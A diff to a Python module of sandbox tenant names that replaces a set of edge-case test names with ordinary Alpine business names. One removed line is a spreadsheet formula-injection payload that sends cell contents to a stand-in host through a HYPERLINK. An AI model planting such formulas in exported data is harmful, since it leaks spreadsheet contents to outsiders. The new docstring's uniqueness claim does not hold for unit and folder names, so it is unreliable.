@@ -1,69 +1,60 @@
-"""Names of the sandbox's tenants: realistic, with content that breaks careless programs.
+"""Names of the sandbox's tenants: those of a distributor in the Alps, its partners and their customers.
 
-Quotes, commas, line breaks, right-to-left and East Asian scripts, emoji, a spreadsheet formula, words that
-spreadsheets and CSV readers treat as missing values, numbers with leading zeros.
+One customer's name is Japanese and one has an apostrophe; umlauts are usual.
 """
 
 from __future__ import annotations
 
+from types import MappingProxyType
+
 ROOT_NAME = "Alpenland Cloud Distribution AG"
 
 # Names of the distributor's first direct children, by place. Places of the form 4n+1 belong to partners.
-SPECIAL_NAMES = {
-    0: "Bäckerei Müller, GmbH",
-    1: "Nordlicht Systemhaus GmbH",
-    2: '=HYPERLINK("http://example.invalid/?leak="&A1,"Rechnung")',
-    3: "株式会社さくらシステム",
-    4: "شركة النور للتقنية",
-    5: 'Wagner "IT" & Söhne, Inh. Jürgen Wagner',
-    6: "Stadtwerke Hügelheim",
-    7: "Christkindlmarkt Pop-up (befristet)",
-    8: "Rocket Backup 🚀🛰️",
-    9: "東京クラウド商事",
-    10: "Schulen & Kitas / Öffentlicher Dienst",
-    11: "O'Reilly & Daughters, Summer Festival",
-    12: "Zoë’s Café – Zürich",
-    13: "Łódź Hosting Sp. z o.o.",
-    14: "Praxis Dr. Weiß\nStandort Süd",
-    15: "NA",
-    16: "007",
-    17: "Παπαδόπουλος Cloud ΑΕ",
-    18: "@home Services; +49 (0)89 1234",
-    19: "-1+1 Agentur",
-    20: "NULL",
-    21: "Back\\slash & Tab\tTechnik",
-}
+DIRECT_CHILDREN = MappingProxyType(
+    {
+        0: "Bäckerei Müller GmbH",
+        1: "Nordlicht Systemhaus GmbH",
+        2: "Zahnarztpraxis Lang & Partner",
+        3: "株式会社さくらシステム",
+        4: "Hotel Alpenblick AG",
+        5: "Wagner IT-Service GmbH",
+        6: "Stadtwerke Hügelheim",
+        7: "Messebau Huber (befristet)",
+        8: "Kanzlei Dr. Steiner",
+        9: "Bodensee Cloud Services GmbH",
+        10: "Schulen Landkreis Lindau",
+        11: "O'Reilly & Daughters Ltd.",
+    }
+)
 
 _FIRST = (
-    "Ahorn", "Bergmann", "Côte d’Azur", "Dürr", "Eichendorff", "Fjord", "Garnier", "Hölderlin", "Ibáñez",
-    "Jäger", "Kowalski", "Lindqvist", "Møller", "Novák", "Österreicher", "Pérez", "Quelle", "Rossi", "Şahin",
-    "Tanaka", "Überlingen", "Văcărescu", "Weiß", "Yıldız", "Zimmermann", "De Vries", "O’Brien", "山田",
-    "Иванов", "Nguyễn",
+    "Ahorn", "Bergmann", "Castelli", "Dürr", "Eichendorff", "Fischer", "Garnier", "Hofer", "Innauer", "Jäger",
+    "Kowalski", "Lindner", "Moser", "Novak", "Oberhauser", "Pichler", "Quelle", "Rossi", "Schmid", "Tanner",
+    "Unterberger", "Vogel", "Weiss", "Zimmermann", "De Vries", "Egger", "Baumann", "Gruber", "Keller",
+    "Sommer",
 )  # fmt: skip
 _TRADE = (
-    "Logistik", "Zahnärzte", "Steuerberatung", "Metallbau", "Apotheke", "Consulting", "Immobilien", "Medien",
-    "Hotel", "Elektro", "Kanzlei", "Architekten", "Weinhandel", "Reisen", "Optik", "Textil", "Druck",
-    "Maschinenbau", "Software",
+    "Logistik", "Zahntechnik", "Steuerberatung", "Metallbau", "Apotheke", "Consulting", "Immobilien",
+    "Medien", "Hotel", "Elektro", "Kanzlei", "Architekten", "Weinhandel", "Reisen", "Optik", "Textil",
+    "Druck", "Maschinenbau", "Software",
 )  # fmt: skip
-_FORM = ("GmbH", "AG", "KG", "e.K.", "Ltd.", "SARL", "S.r.l.", "B.V.", "Sp. z o.o.", "OÜ", "GmbH & Co. KG")
-_PARTNER_TRADE = ("Systemhaus", "IT-Service", "Cloud Services", "Managed IT", "Datentechnik", "MSP")
-_UNITS = ("Zentrale", "Außenstelle Nord", "Werk 2", "Vertrieb", "Buchhaltung", "Lager")
+_PARTNER_TRADE = ("Systemhaus", "IT-Service", "Cloud Services", "Managed IT", "Datentechnik")
+_FORM = ("GmbH", "AG", "KG", "e.K.", "GmbH & Co. KG")
+_UNITS = ("Zentrale", "Filiale Nord", "Werk 2", "Vertrieb", "Buchhaltung", "Lager")
 RENAMED_SUFFIXES = ("", " Gruppe", " International")
 
 
 def composed_name(kind: str, draw: int, number: int) -> str:
-    """A name for a tenant that has none in `SPECIAL_NAMES`.
+    """A name for a tenant that has none of its own.
 
     Args:
-        draw: any number ≥ 0; equal numbers give equal names.
-        number: distinguishes namesakes.
+        draw: any number ≥ 0; chooses the legal form.
+        number: tenants of one kind whose numbers are less than 150 apart have different names.
     """
-    first = _FIRST[draw % len(_FIRST)]
+    first = _FIRST[number % len(_FIRST)]
     if kind == "unit":
         return f"{_UNITS[number % len(_UNITS)]} {first}"
     if kind == "folder":
-        return f"Ordner {first} #{number}"
+        return f"Kunden {first}"
     trades = _PARTNER_TRADE if kind == "partner" else _TRADE
-    trade = trades[draw // len(_FIRST) % len(trades)]
-    form = _FORM[draw // 7 % len(_FORM)]
-    return f"{first} {trade} {form} {number}"
+    return f"{first} {trades[number // len(_FIRST) % len(trades)]} {_FORM[draw % len(_FORM)]}"
